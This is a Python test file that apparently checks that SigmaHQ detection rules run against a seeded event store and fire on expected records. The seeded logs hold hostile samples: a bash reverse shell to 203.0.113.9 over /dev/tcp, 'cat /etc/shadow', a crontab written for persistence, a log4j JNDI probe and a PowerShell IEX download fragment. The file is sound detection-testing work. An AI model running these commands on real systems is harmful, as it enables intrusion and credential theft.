"""SigmaHQ compatibility: every corpus rule whose log source the pipeline maps converts and runs.

The corpus (real SigmaHQ rules of every log source the range may meet) is read in place from
../shared/corpus/sigmahq.
A rule counts as *mapped* unless its only problem is a log source the pipeline does not map
(Cisco, FortiGate, Windows, Zeek logs the range does not record...). Of the mapped ones at least
95% must load, convert and run against a small real store; the rest are listed with the reason.
The Linux rules (rules/linux, rules-threat-hunting/linux: process_creation, file_event,
network_connection, auditd and the builtin service logs) are counted on their own: at least 95%
of all of them must run on the host tables. The web server's rules (category webserver, Apache's
and nginx's logs) read the webserver table (tests/integration/test_webserver_log.py counts them
over ministry-breach).
"""
from __future__ import annotations

import random
from collections import Counter
from pathlib import Path

from range.detect import load_rules, rule_files, run
from range.events import EventStore
from range.traffic import HostLog

ROOT = Path(__file__).resolve().parents[2]
CORPUS = ROOT.parent / "shared" / "corpus" / "sigmahq"
T0 = 1_800_000_000.0


def corpus_store(path: Path) -> Path:
    """A little of everything, plus records some well-known corpus rules must catch."""
    s = EventStore(path)
    ident = lambda i, src="10.1.0.20", dst="10.1.1.5", dp=80: {  # noqa: E731
        "uid": f"C{i}", "id.orig_h": src, "id.orig_p": 40000 + i, "id.resp_h": dst, "id.resp_p": dp}
    s.add("conn", [{"ts": T0 + i, **ident(i, dp=p), "proto": "tcp", "conn_state": "SF", "service": "http"}
                   for i, p in enumerate([80, 443, 21, 23, 3306, 53])])
    s.add("dns", [
        {"ts": T0 + 1, **ident(10, dp=53), "proto": "udp", "query": "www.example.org", "qtype_name": "A",
         "rcode_name": "NOERROR", "answers": "93.184.216.34", "Z": 0},
        {"ts": T0 + 2, **ident(11, src="10.1.0.31", dp=53), "proto": "udp", "query": "api.telegram.org",
         "qtype_name": "A", "Z": 0},
        {"ts": T0 + 3, **ident(12, src="10.1.0.32", dp=53), "proto": "udp", "query": "c2.evil.test",
         "qtype_name": "TXT", "Z": 1, "answers": "IEX(New-Object Net.WebClient)"},
    ])
    s.add("http", [
        {"ts": T0 + 4, **ident(20), "method": "GET", "host": "intranet.gov.test", "uri": "/index.html",
         "user_agent": "Mozilla/5.0", "status_code": 200, "referrer": "-"},
        {"ts": T0 + 5, **ident(21, src="10.1.0.66"), "method": "GET", "host": "intranet.gov.test",
         "uri": "/search?q=${jndi:ldap://198.51.100.7/a}", "user_agent": "Mozilla/5.0", "status_code": 404},
        {"ts": T0 + 6, **ident(22, src="10.1.0.67", dst="8.8.8.8"), "method": "PUT", "host": "files.example.com",
         "uri": "/dav/x.exe", "user_agent": "Microsoft-WebDAV-MiniRedir/10.0", "status_code": 201},
        {"ts": T0 + 7, **ident(23, src="10.1.0.68", dst="10.1.1.9"), "method": "PUT", "host": "files.gov.test",
         "uri": "/dav/y.exe", "user_agent": "Microsoft-WebDAV-MiniRedir/10.0", "status_code": 201},
    ])
    s.add("ssh", [{"ts": T0 + 8, **ident(30, dp=22), "auth_success": 1, "client": "SSH-2.0-OpenSSH_9.2"}])
    s.add("ftp", [{"ts": T0 + 9, **ident(31, dp=21), "user": "anonymous", "command": "RETR", "arg": "/pub/x"}])
    s.add("telnet", [{"ts": T0 + 10, **ident(32, dp=23), "direction": "orig", "line": "ls"}])
    s.add("arp", [{"ts": T0 + 11, "operation": "request", "id.orig_h": "10.1.0.1", "id.resp_h": "10.1.0.2"}])
    host_records(s)
    web_server_log(s)
    s.close()
    return path


def web_server_log(s: EventStore) -> None:
    """The intranet's nginx: a page, a log4j probe in the query, an F5 iControl bash call (the path
    SigmaHQ writes under cs-uri-query) and a worker's core dump in the error log."""
    log = HostLog(random.Random(1))
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
    log.access(T0 + 4, "intranet", "10.1.0.20", "GET", "/index.html", 200, 5120, user_agent=ua, vhost="intranet")
    log.access(T0 + 5, "intranet", "10.1.0.66", "GET", "/search?q=${jndi:ldap://198.51.100.7/a}", 404, 153,
               user_agent=ua, vhost="intranet")
    log.access(T0 + 6, "intranet", "10.1.0.67", "POST", "/mgmt/tm/util/bash", 200, 88, user_agent="curl/8.5.0")
    log.web_error(T0 + 7, "intranet", "alert", 811, "worker process 812 exited on signal 6 (core dumped)")
    for table, rec in log.records:
        s.add(table, [rec])


def host_records(s: EventStore) -> None:
    """A web shell on the portal (nginx's www-data running discovery commands, a reverse shell, a
    crontab for persistence, /etc/shadow read) and an SSH password guess on the file server, as
    the nodes would log them."""
    web, shell = "portal", {"host": "portal", "User": "www-data", "CurrentDirectory": "/var/www/html",
                            "ParentProcessId": 812, "ParentImage": "/usr/sbin/nginx",
                            "ParentCommandLine": "nginx: worker process"}
    s.add("process_creation", [
        {"ts": T0 + 20, "ProcessId": 4101, "Image": "/usr/bin/dash", "CommandLine": "sh -c id", **shell},
        {"ts": T0 + 20.01, "ProcessId": 4102, "Image": "/usr/bin/id", "CommandLine": "id", **shell,
         "ParentProcessId": 4101, "ParentImage": "/usr/bin/dash", "ParentCommandLine": "sh -c id"},
        {"ts": T0 + 21, "ProcessId": 4103, "Image": "/bin/uname", "CommandLine": "uname -a", **shell},
        {"ts": T0 + 22, "ProcessId": 4104, "Image": "/usr/bin/cat", "CommandLine": "cat /etc/shadow", **shell},
        {"ts": T0 + 23, "ProcessId": 4105, "Image": "/usr/bin/bash",
         "CommandLine": "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", **shell},
        {"ts": T0 + 24, "host": "files", "ProcessId": 700, "Image": "/usr/bin/tar", "User": "backup",
         "CommandLine": "tar czf /srv/backup/home.tgz /home", "ParentImage": "/usr/sbin/cron",
         "ParentProcessId": 690, "CurrentDirectory": "/var/backups"},
    ])
    s.add("network_connection", [
        {"ts": T0 + 23.1, "host": web, "ProcessId": 4105, "Image": "/usr/bin/bash", "User": "www-data",
         "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.1.1.5", "SourcePort": 51234,
         "DestinationIp": "203.0.113.9", "DestinationPort": 4444},
    ])
    s.add("file_event", [
        {"ts": T0 + 25, "host": web, "ProcessId": 4106, "Image": "/usr/bin/crontab", "User": "www-data",
         "TargetFilename": "/var/spool/cron/crontabs/www-data"},
    ])
    s.add("syslog", [
        {"ts": T0 + 25.1, "host": web, "facility": "cron", "severity": "info", "program": "crontab", "pid": 4106,
         "message": "(www-data) REPLACE (www-data)"},
        {"ts": T0 + 23.2, "host": web, "facility": "user", "severity": "notice", "program": "bash", "pid": 4105,
         "message": "HISTORY: PID=4105 UID=33 bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
        {"ts": T0 + 26, "host": "files", "facility": "auth", "severity": "info", "program": "sshd", "pid": 2211,
         "message": "Failed password for root from 203.0.113.9 port 40022 ssh2"},
        {"ts": T0 + 27, "host": "files", "facility": "authpriv", "severity": "notice", "program": "sudo",
         "message": "  alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update",
         "USER": "root", "TTY": "pts/0", "PWD": "/home/alice", "COMMAND": "/usr/bin/apt update"},
    ])
    s.add("auditd", [
        {"ts": T0 + 20.01, "host": web, "serial": 9001, "type": "SYSCALL", "SYSCALL": "execve", "success": "yes",
         "exit": 0, "pid": 4102, "ppid": 4101, "auid": 4294967295, "euid": 33, "comm": "id", "exe": "/usr/bin/id",
         "key": "detect_execve_www"},
        {"ts": T0 + 20.01, "host": web, "serial": 9001, "type": "EXECVE", "argc": 1, "a0": "id"},
        {"ts": T0 + 20.01, "host": web, "serial": 9001, "type": "CWD", "cwd": "/var/www/html"},
        {"ts": T0 + 20.01, "host": web, "serial": 9001, "type": "PATH", "name": "/usr/bin/id", "nametype": "NORMAL"},
    ])


LINUX = [CORPUS / "rules" / "linux", CORPUS / "rules-threat-hunting" / "linux"]


def test_sigmahq_corpus_runs(tmp_path, capsys):
    files = rule_files([CORPUS])
    assert any("/rules/network/" in str(f) for f in files) and any("/rules/web/" in str(f) for f in files), \
        f"no SigmaHQ network or web rules under {CORPUS}: the compatibility corpus is missing"
    rs = load_rules([CORPUS])
    db = corpus_store(tmp_path / "corpus.db")
    alerts, errors = run(rs, db)

    loaded = {r.file for r in rs.rules.values()} | {c.file for c in rs.correlations}
    unmapped = {e["file"] for e in rs.errors if "is not mapped" in e["message"]}
    failed: dict[str, list[str]] = {}
    for e in errors:
        if e["file"] not in unmapped:
            failed.setdefault(e["file"], []).append(e["message"])
    mapped = [str(f) for f in files if str(f) not in unmapped]
    ran = [f for f in mapped if f in loaded and f not in failed]

    sources = Counter(e["message"].split(")")[0].split("(")[-1] for e in rs.errors if e["file"] in unmapped)
    with capsys.disabled():
        print(f"\nSigmaHQ corpus: {len(files)} files, {len(mapped)} mapped, {len(ran)} ran, "
              f"{len(mapped) - len(ran)} failed, {len(unmapped)} unmapped")
        for f, msgs in sorted(failed.items()):
            print(f"  FAILED {Path(f).relative_to(CORPUS)}: {' / '.join(msgs)}")
        for src, n in sources.most_common():
            print(f"  unmapped log source ({src}): {n} rules")
        for w in rs.warnings:
            print(f"  warning {Path(w['file']).relative_to(CORPUS)}: {w['message']}")
    linux = [str(f) for f in rule_files(LINUX)]
    linux_ran = [f for f in linux if f in loaded and f not in failed and f not in unmapped]
    with capsys.disabled():
        print(f"SigmaHQ Linux rules: {len(linux_ran)} of {len(linux)} ran "
              f"({100 * len(linux_ran) / max(len(linux), 1):.1f}%)")
        for f in linux:
            if f not in linux_ran:
                why = failed.get(f) or [e["message"] for e in errors if e["file"] == f] or ["did not load"]
                print(f"  LINUX FAILED {Path(f).relative_to(CORPUS)}: {' / '.join(why)}")
    assert not unmapped & loaded
    assert len(ran) >= 0.95 * len(mapped), failed
    assert len(linux) >= 200, f"the SigmaHQ Linux rules are missing under {LINUX[0]}"
    assert len(linux_ran) >= 0.95 * len(linux), {f: failed.get(f) for f in linux if f not in linux_ran}
    # failures are reported cleanly: every one names its file and gives a reason
    assert all(e["file"] and e["message"] for e in errors)

    fired = {a["rule_id"] for a in alerts}
    assert "5ea8faa8-db8b-45be-89b0-151b84c82702" in fired   # log4j JNDI in access logs (keywords)
    # the web server's own log: log4j's probe by its client, the F5 path under cs-uri-query, the core dump
    (log4j,) = [a for a in alerts if a["rule_id"] == "5ea8faa8-db8b-45be-89b0-151b84c82702"]
    assert log4j["group"] == {"c-ip": "10.1.0.66"} and [e["_path"] for e in log4j["events"]] == ["webserver"]
    assert "85254a62-22be-4239-b79c-2ec17e566c37" in fired
    (dump,) = [a for a in alerts if a["rule_id"] == "59ec40bb-322e-40ab-808d-84fa690d7e56"]
    assert [e["log"] for e in dump["events"]] == ["error"]
    assert "c64c5175-5189-431b-a55e-6d9882158251" in fired   # Telegram API lookup
    assert "ede05abc-2c9e-4624-9944-9ff17fdc0bf5" in fired   # Zeek DNS Z bit set
    (webdav,) = [a for a in alerts if a["rule_id"] == "705072a5-bb6f-4ced-95b6-ecfa6602090b"]
    assert [e["id.resp_h"] for e in webdav["events"]] == ["8.8.8.8"]   # the private target is filtered

    # Linux rules on the host records made for them
    def cmds(rule_id):
        return sorted(e.get("CommandLine") or e.get("message") or e.get("TargetFilename") or e.get("a0")
                      or e.get("DestinationIp") for a in alerts if a["rule_id"] == rule_id for e in a["events"])
    # proc_creation_lnx_local_account.yml: cat of /etc/shadow (and `id`)
    assert cmds("b45e3d6f-42c6-47d8-a478-df6bd6cf534c") == ["cat /etc/shadow", "id"]
    # proc_creation_lnx_webshell_detection.yml: nginx's worker spawning uname and cat, one alert for the node
    (ws,) = [a for a in alerts if a["rule_id"] == "818f7b24-0fba-4c49-a073-8b755573b9c7"]
    assert ws["group"] == {"host": "portal"} and [e["Image"] for e in ws["events"]] == ["/bin/uname", "/usr/bin/cat"]
    # lnx_shell_susp_rev_shells.yml (keywords over syslog's message) and the reverse shell's connection
    assert cmds("738d9bcf-6999-4fdb-b4ac-3033037db8ab") == [
        "HISTORY: PID=4105 UID=33 bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]
    assert cmds("83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871") == ["203.0.113.9"]   # net_connection_lnx_back_connect_shell_dev
    # persistence: the crontab file written, and cron's REPLACE line (service cron: the cron programs only)
    assert cmds("6c4e2f43-d94d-4ead-b64d-97e53fa2bd05") == ["/var/spool/cron/crontabs/www-data"]
    assert cmds("af202fd3-7bff-4212-a25a-fb34606cfcbe") == ["(www-data) REPLACE (www-data)"]
    # lnx_auditd_user_discovery.yml: the EXECVE record of `id`
    assert cmds("9a0d8ca0-2385-4020-b6c6-cb6153ca56f3") == ["id"]
    # nothing in sshd's rule of protocol errors matches a password guess
    assert "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc" not in fired


def test_legacy_aggregations_are_translated_or_reported(tmp_path):
    """unsupported/ holds Sigma 1 'count() by' rules: those with a timeframe become correlations."""
    unsupported = CORPUS / "unsupported"
    rs = load_rules([unsupported])
    files = {str(f) for f in rule_files([unsupported])}
    corr_files = {c.file for c in rs.correlations}
    reported = {e["file"] for e in rs.errors}
    assert files == corr_files | reported | {r.file for r in rs.rules.values()}
    assert len(corr_files) >= 8
    for e in rs.errors:
        assert "legacy aggregation" in e["message"]
    rate = [c for c in rs.correlations if c.id == "44d4a4a7-2ee8-4e8b-8c2b-8b7a5c46e0e7"] or \
        [c for c in rs.correlations if Path(c.file).name == "net_firewall_high_dns_requests_rate.yml"]
    (rate,) = rate
    assert rate.spec.kind == "event_count" and rate.spec.op == "gt" and rate.spec.threshold == 1000
    assert rate.spec.timespan == 60 and rate.spec.group_names == ["id.orig_h"]
